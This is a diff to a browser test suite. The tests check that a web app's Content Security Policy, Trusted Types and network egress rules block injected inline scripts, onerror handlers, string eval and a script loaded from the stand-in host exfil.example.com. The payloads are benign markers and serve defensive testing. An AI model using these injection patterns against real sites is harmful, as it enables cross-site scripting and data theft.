@@ -14,6 +14,7 @@ import socket
 import subprocess
 import sys
 import threading
+import urllib.request
 import zipfile
 from urllib.parse import urlparse
 
@@ -51,28 +52,34 @@ def test_page_and_worker_are_served_with_the_csp(context, site):
     assert "*" not in connect.replace("localhost:*", "").replace("127.0.0.1:*", "")
     for path in ("/", "/start.js", "/worker.mjs", "/app.mjs", "/sw.js"):
         assert path in headers, f"{path} not loaded"
-        assert norm_csp(headers[path].get("content-security-policy", "")) == meta, path
+        # the header adds what a <meta> cannot carry: frame-ancestors
+        assert norm_csp(headers[path].get("content-security-policy", "")) == meta + ["frame-ancestors 'none'"], path
         assert headers[path].get("x-content-type-options") == "nosniff"
+        assert headers[path].get("x-frame-options") == "DENY"
 
 
 INJECT_JS = """async () => {
   const violations = [];
   document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
   const later = (fn, ms = 0) => new Promise((r) => setTimeout(() => r(fn()), ms));
-  // an inline script
-  const s = document.createElement('script');
-  s.textContent = 'window.__pwned = 1';
-  document.body.append(s);
-  // inline handlers, through innerHTML
-  const div = document.createElement('div');
-  div.innerHTML = '<img src="data:," onload="window.__pwned2 = 1"><img src=x onerror="window.__pwned2 = 1">';
-  document.body.append(div);
-  // a script from another host
-  const ext = document.createElement('script');
-  ext.src = 'https://exfil.example.com/x.js';
-  document.body.append(ext);
+  const tried = {};
+  const attempt = (name, fn) => { try { fn(); tried[name] = 'done'; } catch (e) { tried[name] = e.name; } };
+  const added = [];
+  const add = (node) => { document.body.append(node); added.push(node); return node; };
+  // an inline script: its text as a string (a Trusted Types sink), then as a text node
+  attempt('scriptText', () => { add(document.createElement('script')).textContent = 'window.__pwned = 1'; });
+  attempt('scriptNode', () => { const s = document.createElement('script');
+                                s.append(document.createTextNode('window.__pwned = 1')); add(s); });
+  // inline handlers, through innerHTML and through an attribute
+  attempt('innerHTML', () => { add(document.createElement('div')).innerHTML =
+    '<img src="data:," onload="window.__pwned2 = 1"><img src=x onerror="window.__pwned2 = 1">'; });
+  attempt('handler', () => { add(document.createElement('img')).setAttribute('onerror', 'window.__pwned2 = 1'); });
+  // a script from another host: as a string, and through the page's own Trusted Types policy
+  attempt('externalSrc', () => { add(document.createElement('script')).src = 'https://exfil.example.com/x.js'; });
+  attempt('externalPolicy', () => { add(document.createElement('script')).src =
+    self.roledoctorWorker.scriptURL('https://exfil.example.com/x.js'); });
   // string code, run from a timer (code evaluated by the test itself is exempt from the CSP)
-  setTimeout('window.__pwned3 = 1', 0);
+  attempt('timer', () => setTimeout('window.__pwned3 = 1', 0));
   const evals = await later(() => {
     const out = {};
     try { eval('window.__pwned3 = 1'); out.eval = 'ran'; } catch (e) { out.eval = e.name; }
@@ -85,26 +92,31 @@ INJECT_JS = """async () => {
     return out;
   }, 20);
   await later(() => null, 300);
-  s.remove(); div.remove(); ext.remove();
-  return { pwned: [window.__pwned ?? null, window.__pwned2 ?? null, window.__pwned3 ?? null], violations, ...evals };
+  for (const node of added) node.remove();
+  return { pwned: [window.__pwned ?? null, window.__pwned2 ?? null, window.__pwned3 ?? null], violations, tried, ...evals };
 }"""
 
 
 def test_injected_inline_script_does_not_run(context, site):
     egress = Egress(context, site.url)
-    failed = []
-    context.on("requestfailed", lambda q: failed.append((q.url, q.failure)))
+    seen = []
+    context.on("request", lambda q: seen.append(q.url))
     page = context.new_page()
     page.goto(site.url)
     wait_ready(page)
     r = page.evaluate(INJECT_JS)
     assert r["pwned"] == [None, None, None], r
     assert r["eval"] == "EvalError" and r["fn"] == "EvalError", r
-    assert "script-src-elem" in r["violations"], r
-    assert "script-src-attr" in r["violations"], r
-    assert "script-src" in r["violations"] or r["violations"].count("script-src-elem") >= 2, r
-    # the external script was stopped by the CSP, before the network (the route never saw it)
-    assert [f for u, f in failed if "exfil.example.com" in u] == ["csp"], failed
+    # Trusted Types refuse every string sink outright...
+    for sink in ("scriptText", "innerHTML", "handler", "externalSrc", "externalPolicy", "timer"):
+        assert r["tried"][sink] in ("TypeError", "done"), r
+    assert r["tried"]["scriptText"] == r["tried"]["innerHTML"] == r["tried"]["externalSrc"] == "TypeError", r
+    assert r["tried"]["externalPolicy"] == "TypeError", r  # the page's policy passes only its own URLs
+    assert "require-trusted-types-for" in r["violations"], r
+    # ...and a script built from a text node still meets the CSP or Trusted Types when it would run
+    assert r["tried"]["scriptNode"] == "done" and len(r["violations"]) >= 4, r
+    # the external script never got as far as a request
+    assert not [u for u in seen if "exfil.example.com" in u], seen
     assert not [u for u in egress.blocked if "exfil" in u]
 
 
@@ -155,41 +167,65 @@ def test_page_cannot_fetch_an_unlisted_host(context, site):
         llm.stop()
 
 
-def worker_fetch(browser, url) -> tuple[dict, list[str]]:
-    """What the page's Pyodide worker gets when it fetches UNLISTED, and what reached the network."""
+# run from a timer: code evaluated by the test itself is exempt from the CSP
+EVAL_JS = """() => new Promise((resolve) => setTimeout(() => {
+  const out = {};
+  try { eval('1 + 1'); out.eval = 'ran'; } catch (e) { out.eval = e.name; }
+  try { new Function('return 1')(); out.fn = 'ran'; } catch (e) { out.fn = e.name; }
+  resolve(out);
+}, 0))"""
+
+
+def worker_fetch(browser, url) -> tuple[dict, dict, list[str]]:
+    """What the page's Pyodide worker gets when it fetches UNLISTED and when it
+    evals a string, and what reached the network."""
     context = browser.new_context(service_workers="block")
     try:
         egress = Egress(context, url)  # records and aborts what reaches the network stage
         page = context.new_page()
         page.goto(url)
-        wait_ready(page)
-        (worker,) = [w for w in page.workers if urlparse(w.url).path == "/worker.mjs"]
+        wait_ready(page)  # Pyodide started under the policy (its wasm needs 'wasm-unsafe-eval')
+        (worker,) = page.workers  # the one dedicated worker: the Pyodide worker
         result = worker.evaluate(FETCH_JS, [UNLISTED, "POST"])
+        evals = worker.evaluate(EVAL_JS)
         # the control: the worker can fetch from its own origin
         own = worker.evaluate(FETCH_JS, [url + "pyodide-lock.json", "GET"])
         assert own["outcome"] == "sent: 200", own
-        return result, [u for u in egress.seen + egress.blocked if "exfil.example.com" in u]
+        return result, evals, [u for u in egress.seen + egress.blocked if "exfil.example.com" in u]
     finally:
         context.close()
 
 
-def test_worker_cannot_fetch_an_unlisted_host(browser, site, dist):
-    """The Pyodide worker follows its own response's CSP header (a <meta> does not reach it)."""
-    result, reached = worker_fetch(browser, site.url)
+def test_worker_cannot_fetch_an_unlisted_host(browser, site):
+    """The Pyodide worker holds the unredacted text and the placeholder map: it
+    may neither fetch a host the CSP does not list nor eval a string."""
+    result, evals, reached = worker_fetch(browser, site.url)
     assert result["outcome"].startswith("blocked") and "connect-src" in result["violations"], result
+    assert evals == {"eval": "EvalError", "fn": "EvalError"}, evals
     assert reached == []
-    # the control: served without the header (as a plain static host would), the same fetch goes out
+
+
+def test_worker_is_covered_by_the_meta_policy_on_a_host_without_headers(browser, dist):
+    """A static host that sends no header: a worker loaded by its URL would run
+    with no policy at all. Started from a blob: module (which inherits the
+    page's policy, https://www.w3.org/TR/CSP3/#initialize-global-object-csp),
+    it is bound by the <meta> too."""
     serve = load_server_module()
 
-    class NoCsp(serve.Handler):
+    class NoHeaders(serve.Handler):
         def end_headers(self):
             http.server.SimpleHTTPRequestHandler.end_headers(self)
 
-    server = serve.Server(("127.0.0.1", 0), functools.partial(NoCsp, directory=str(dist)))
+    server = serve.Server(("127.0.0.1", 0), functools.partial(NoHeaders, directory=str(dist)))
     threading.Thread(target=server.serve_forever, daemon=True).start()
     try:
-        result, reached = worker_fetch(browser, f"http://127.0.0.1:{server.server_address[1]}/")
-        assert result["violations"] == [] and UNLISTED in reached, (result, reached)
+        url = f"http://127.0.0.1:{server.server_address[1]}/"
+        with urllib.request.urlopen(url + "worker.mjs") as r:
+            assert r.headers.get("Content-Security-Policy") is None  # the server really sends none
+        result, evals, reached = worker_fetch(browser, url)
+        assert result["outcome"].startswith("blocked") and "connect-src" in result["violations"], result
+        assert evals == {"eval": "EvalError", "fn": "EvalError"}, evals
+        assert reached == []
     finally:
         server.shutdown()
         server.server_close()
